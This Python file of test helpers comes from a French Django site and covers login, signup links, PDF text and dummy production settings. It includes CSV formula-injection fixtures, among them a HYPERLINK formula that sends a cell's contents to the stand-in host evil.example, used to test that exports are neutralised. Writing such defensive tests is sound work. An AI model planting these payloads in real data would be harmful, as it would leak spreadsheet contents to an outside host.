"""Small helpers shared by tests."""

import socket


def free_port():
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def log_in(page, username, password=None):
    page.goto("/connexion/")
    page.get_by_label("Adresse e-mail ou identifiant").fill(username)
    page.get_by_label("Mot de passe").fill(password or username)
    page.get_by_role("button", name="Se connecter").last.click()


# Cells an attacker types into a place's name, town or address, hoping that a funder's
# spreadsheet runs them (CSV formula injection).
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
HOSTILE_TOWN = "+SUM(1;2)"
HOSTILE_ADDRESS = "@SUM(A1:A9)"


def neutralised(value):
    """How every CSV export of the site writes a formula-like text: quoted, shown as text."""
    return "'" + value


def confirmation_path(message):
    """The path of the signup confirmation link in an e-mail (places.signup)."""
    import re
    from urllib.parse import urlsplit

    found = re.search(r"https?://\S+/structure/inscription/confirmer/\S+/", message.body)
    assert found, message.body
    return urlsplit(found.group(0)).path


# What production sets (DEBUG=0): the settings refuse to start without it.
PRODUCTION = {
    "DEBUG": "0", "SECRET_KEY": "k3y-" + "a1b2c3d4e5" * 6, "ALLOWED_HOSTS": "aptic.example",
    "SITE_URL": "https://aptic.example", "DJANGO_SETTINGS_MODULE": "aptic.settings",
    "CHEQUE_SIGNING_KEYS": "p1:" + "s1gn1ng-k3y-" * 5,
    "OPERATOR_IBAN": "FR7630006000011234567890189", "OPERATOR_BIC": "AGRIFRPP",
    "OPERATOR_SIRET": "73282932000074",
}


def production_environment(**extra):
    """This process's environment as production would set it, for a subprocess."""
    import os

    env = {k: v for k, v in os.environ.items()
           if k not in {"DEBUG", "DJANGO_ALLOW_ASYNC_UNSAFE"}}
    return {**env, **PRODUCTION, **extra}


def pdf_text(content):
    """The text of a PDF's pages on one line, every kind of space read as a blank."""
    import io

    from pypdf import PdfReader

    text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)
    return " ".join(text.replace("\u00a0", " ").replace("\u202f", " ").split())


def signed_in(user):
    """A test client signed in as `user`."""
    from django.test import Client

    client = Client()
    client.force_login(user)
    return client
